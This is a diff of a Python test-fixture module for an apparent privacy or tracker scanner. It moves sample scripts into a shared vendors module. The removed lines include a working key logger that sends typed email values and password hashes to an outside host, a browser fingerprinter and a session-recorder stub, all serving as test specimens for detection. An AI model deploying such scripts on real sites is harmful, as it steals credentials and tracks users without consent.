@@ -4,6 +4,7 @@ from __future__ import annotations
 
 from tests.support.internet import Internet, pixel, script
 from tests.support.site import Page, html
+from tests.support.vendors import FINGERPRINTER, ONETRUST, OT_STUB, RECORDING, key_logger
 
 HOSTS = (
     "shop.test",
@@ -50,38 +51,6 @@ sessionStorage.setItem('_ga_hit', '1');
 indexedDB.open('ga-store');
 navigator.sendBeacon('https://www.google-analytics.com/g/collect?v=2&tid=G-TEST', 'en=page_view');"""
 
-FONTS = ", ".join(f"'Font{index}'" for index in range(30))
-# A fingerprinter: canvas with text, installed fonts, the GPU's name, an audio signal, a navigator sweep.
-FINGERPRINTER = f"""(function () {{
-  var c = document.createElement('canvas'); c.width = 200; c.height = 50;
-  var x = c.getContext('2d'); x.textBaseline = 'top'; x.font = '14px Arial';
-  x.fillText('Cwm fjordbank glyphs vext quiz', 2, 2); c.toDataURL();
-  [{FONTS}].forEach(function (f) {{ x.font = '12px ' + f; x.measureText('mmmmmmmmmmlli'); }});
-  var gl = document.createElement('canvas').getContext('webgl');
-  if (gl) gl.getParameter(37446);
-  var a = new OfflineAudioContext(1, 4410, 44100); var o = a.createOscillator();
-  o.connect(a.destination); o.start(0); a.startRendering();
-  var n = navigator;
-  [n.userAgent, n.platform, n.language, n.languages, n.hardwareConcurrency, n.deviceMemory, n.plugins,
-   n.mimeTypes, n.doNotTrack, n.maxTouchPoints, n.vendor, n.cookieEnabled, screen.width, screen.colorDepth];
-}})();"""
-
-# A key logger: what is typed leaves before any submit, base64 on each keystroke, hashed on leaving the field.
-KEYS = """document.addEventListener('input', function (e) {
-  if (e.target.type === 'email') {
-    var body = JSON.stringify({f: e.target.name, v: btoa(e.target.value)});
-    fetch('https://in.hotjar.com/k', {method: 'POST', body: body});
-  }
-});
-document.addEventListener('focusout', async function (e) {
-  if (e.target.type !== 'password') return;
-  var d = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(e.target.value));
-  var hex = Array.from(new Uint8Array(d)).map(function (b) { return b.toString(16).padStart(2, '0'); }).join('');
-  new Image().src = 'https://in.hotjar.com/p?h=' + hex;
-});"""
-
-
-OT_STUB = "https://cdn.cookielaw.org/scripttemplates/otSDKStub.js"
 CONSENT_PAGE = f"""<!doctype html><html><head><title>Consent</title>
 <script src="{OT_STUB}" data-domain-script="0f1e2d3c"></script>
 <script>!function(f,b,e,v,n,t,s){{if(f.fbq)return;n=f.fbq=function(){{n.callMethod?
@@ -90,27 +59,6 @@ t=b.createElement(e);t.async=!0;t.src=v;s=b.getElementsByTagName(e)[0];s.parentN
 document,'script','https://connect.facebook.net/en_US/fbevents.js');fbq('init','1234567890123456');</script>
 </head><body><a href="/privacy">Privacy policy</a></body></html>"""
 
-# A consent manager before any answer, as OneTrust's is: its globals, the IAB TCF and GPP APIs (whose ping
-# answers at once), a banner on show. Accepting would report to the CDN: a scan must never do it.
-ONETRUST = """window.OneTrust = { IsAlertBoxClosed: function () { return false; } };
-window.Optanon = window.OneTrust;
-window.__tcfapi = function (command, version, callback) {
-  if (command === 'ping') callback({gdprApplies: true, cmpLoaded: true, cmpStatus: 'loaded',
-    displayStatus: 'visible', apiVersion: '2.2', cmpId: 28, gvlVersion: 3, tcString: 'never-stored'});
-};
-window.__gpp = function (command, callback) {
-  if (command === 'ping') callback({gppVersion: '1.1', cmpStatus: 'loaded', cmpDisplayStatus: 'visible',
-    signalStatus: 'not ready', supportedAPIs: ['2:tcfeuv2'], cmpId: 28, gppString: 'never-stored'}, true);
-};
-document.addEventListener('DOMContentLoaded', function () {
-  var banner = document.createElement('div');
-  banner.id = 'onetrust-banner-sdk';
-  banner.innerHTML = '<p>We use cookies.</p><button id="onetrust-accept-btn-handler">Accept all</button>';
-  document.body.appendChild(banner);
-  banner.querySelector('button').addEventListener('click', function () {
-    new Image().src = 'https://cdn.cookielaw.org/consent?accepted=1';
-  });
-});"""
 FBEVENTS = "new Image().src = 'https://www.facebook.com/tr?id=1234567890123456&ev=PageView';"
 
 NEWS_PAGE = """<!doctype html><html><head><title>News</title>
@@ -122,11 +70,6 @@ NEWS_PAGE = """<!doctype html><html><head><title>News</title>
 <script src="/app.js"></script>
 </head><body><div id="Cookiebot">An element named like a consent manager's global</div>
 <a href="/privacy">Privacy policy</a></body></html>"""
-# What session recorders do: watch the whole document, and the pointer and keys page-wide.
-RECORDER = """new MutationObserver(function () {}).observe(document, {childList: true, subtree: true});
-document.addEventListener('mousemove', function () {}, true);
-document.addEventListener('input', function () {}, true);
-window.addEventListener('scroll', function () {});"""
 
 
 def build_sites(internet: Internet) -> None:
@@ -140,7 +83,7 @@ def build_sites(internet: Internet) -> None:
         pixel(("Set-Cookie", "fr=x; Domain=.facebook.com; Path=/; Max-Age=7776000; Secure; SameSite=None")),
     )
     internet.add("https://fp.metrics.test/fp.js", script(FINGERPRINTER))
-    internet.add("https://static.hotjar.com/keys.js", script(KEYS))
+    internet.add("https://static.hotjar.com/keys.js", script(key_logger("https://in.hotjar.com")))
     internet.add("https://in.hotjar.com/k", Page(204))
     internet.add("https://in.hotjar.com/p", pixel())
     internet.add("http://plain.test/", html("<p>plain</p>"))
@@ -153,5 +96,5 @@ def build_sites(internet: Internet) -> None:
     internet.add("https://connect.facebook.net/en_US/fbevents.js", script(FBEVENTS))
     internet.add(NEWS, html(NEWS_PAGE))
     internet.add("https://news.test/favicon.ico", Page(204))
-    internet.add("https://cdn.recorder.test/record.js", script(RECORDER))
-    internet.add("https://news.test/app.js", script(RECORDER))
+    internet.add("https://cdn.recorder.test/record.js", script(RECORDING))
+    internet.add("https://news.test/app.js", script(RECORDING))
